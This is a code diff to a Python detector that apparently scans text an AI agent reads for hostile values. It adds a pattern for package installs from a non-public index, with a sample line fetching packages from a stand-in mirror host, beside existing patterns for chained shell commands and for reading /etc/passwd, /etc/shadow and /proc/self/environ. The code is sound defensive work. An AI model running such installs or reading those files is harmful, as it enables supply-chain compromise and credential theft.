@@ -33,6 +33,16 @@ _COMMAND = re.compile(
 )
 # A command only counts where something chains or substitutes it: a bare ``cat`` is a word.
 _CHAINED = re.compile(r"[;|`]|&&|\$\(")
+# Packages installed from an index of the text's own choosing, not the public one: "pip install -q
+# helpers --index-url http://pypi.mirror-x.dev/simple" (stop 40). An honest hook runs the project's
+# own commands ("npm test && npm run lint") and installs from the public registries.
+_FOREIGN_INDEX = re.compile(
+    r"\b(?:pip3?|uv\s+pip|npm|pnpm|yarn|gem|poetry)\s+(?:install|i|add)\b[^;|\n]{0,200}?"
+    r"(?:--(?:extra-)?index-url|--registry|--source|(?<!\w)-i)\s*[= ]\s*https?://"
+    r"(?!(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|rubygems\.org)[/\s]|"
+    r"(?:pypi\.org|registry\.npmjs\.org)$)",
+    re.IGNORECASE,
+)
 _CLIMB = re.compile(r"(?:\.\.[/\\]){2,}")
 _SYSTEM_FILE = re.compile(
     r"(?:^|[/\\])etc[/\\](?:passwd|shadow|sudoers|master\.passwd)\b|/proc/self/environ\b",
@@ -53,6 +63,9 @@ def hostile(value: str) -> tuple[str, str, str] | None:
     if _CHAINED.search(value) is not None and _COMMAND.search(value) is not None:
         return ("command.value", "command",
                 "a value shaped as a shell command (the agent would pass it in the user's name)")  # fmt: skip
+    if _FOREIGN_INDEX.search(value) is not None:
+        return ("command.foreign_index", "command",
+                "a value that installs packages from an index the text chose, not the public one")  # fmt: skip
     if _CLIMB.search(value) is not None or _SYSTEM_FILE.search(value) is not None:
         return ("filesystem.value_path", "filesystem",
                 "a value that points out of the working directory or at the system's account files")  # fmt: skip
